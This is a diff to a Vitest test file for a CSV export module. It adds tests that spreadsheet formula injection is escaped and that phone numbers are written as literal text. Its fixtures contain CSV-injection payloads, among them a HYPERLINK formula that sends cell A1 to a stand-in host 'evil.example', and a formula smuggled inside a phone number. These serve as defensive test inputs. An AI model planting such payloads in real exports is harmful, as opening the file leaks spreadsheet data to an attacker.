@@ -1,6 +1,6 @@
 import Papa from 'papaparse';
 import { describe, expect, it } from 'vitest';
-import { CSV_BOM, buildCsv, csvAmount } from './csv.ts';
+import { CSV_BOM, buildCsv, csvAmount, csvPhone, escapeFormula } from './csv.ts';
 
 describe('buildCsv (Excel with Spanish regional settings)', () => {
   const csv = buildCsv(
@@ -8,7 +8,7 @@ describe('buildCsv (Excel with Spanish regional settings)', () => {
     [
       ['Миша Смирнов', 'Орехи; "всегда" с собой', csvAmount(250)],
       ['Lucía Fernández', 'línea 1\nlínea 2', null],
-      ['=HYPERLINK("http://evil")', '+34 612 345 678', csvAmount(100.5)],
+      ['=HYPERLINK("http://evil")', csvPhone('+34 612 345 678'), csvAmount(100.5)],
     ],
   );
 
@@ -38,7 +38,37 @@ describe('buildCsv (Excel with Spanish regional settings)', () => {
   it('never lets a cell run as a formula', () => {
     const parsed = Papa.parse<string[]>(csv.slice(1), { delimiter: ';', newline: '\r\n' }).data;
     expect(parsed[3]?.[0]).toBe(`'=HYPERLINK("http://evil")`);
-    expect(parsed[3]?.[1]).toBe(`'+34 612 345 678`);
+    expect(parsed[3]?.[1]).toBe(`="+34 612 345 678"`);
+  });
+
+  it('escapes a formula behind line breaks, spaces or a tab, and a cell starting with a tab or CR', () => {
+    const attack = '=HYPERLINK("http://evil.example/?"&A1,"x")';
+    for (const before of ['\r\n', '\n', '\r', ' ', '\t', ' \r\n\t', '\u00A0'])
+      expect(escapeFormula(`${before}${attack}`), JSON.stringify(before)).toBe(`'${before}${attack}`);
+    expect(escapeFormula(`${attack}\r\n`)).toBe(`'${attack}\r\n`);
+    for (const start of ['+1+1', '-1+1', '@SUM(A1)', '\tplain', '\rplain', '\uFF1DSUM(A1)'])
+      expect(escapeFormula(start), JSON.stringify(start)).toBe(`'${start}`);
+    for (const safe of ['Lucía', 'a = b', '12,50', 'line 1\nline 2', ''])
+      expect(escapeFormula(safe)).toBe(safe);
+    // Read back from the file, the cell holds the apostrophe before the line break.
+    const file = buildCsv(['Name'], [[`\r\n${attack}`], [`${attack}\n`]]);
+    const cells = Papa.parse<string[]>(file.slice(1), { delimiter: ';', newline: '\r\n' }).data;
+    expect(cells[1]?.[0]).toBe(`'\r\n${attack}`);
+    expect(cells[2]?.[0]).toBe(`'${attack}\n`);
+  });
+
+  it('writes phone numbers as text a spreadsheet shows as typed, and escapes anything else in them', () => {
+    const cells = (phone: string | null) =>
+      Papa.parse<string[]>(buildCsv(['Phone'], [[csvPhone(phone)]]).slice(1), {
+        delimiter: ';',
+        newline: '\r\n',
+      }).data[1]?.[0];
+    expect(cells('+34600000000')).toBe('="+34600000000"');
+    expect(cells('600 000 000')).toBe('="600 000 000"');
+    expect(cells('+7 (912) 345-67-89')).toBe('="+7 (912) 345-67-89"');
+    expect(cells('+34 600" & HYPERLINK("x')).toBe(`'+34 600" & HYPERLINK("x`);
+    expect(cells('=1+1')).toBe(`'=1+1`);
+    expect(cells(null)).toBe('');
   });
 
   it('writes amounts with a decimal comma and ends every line with CRLF', () => {
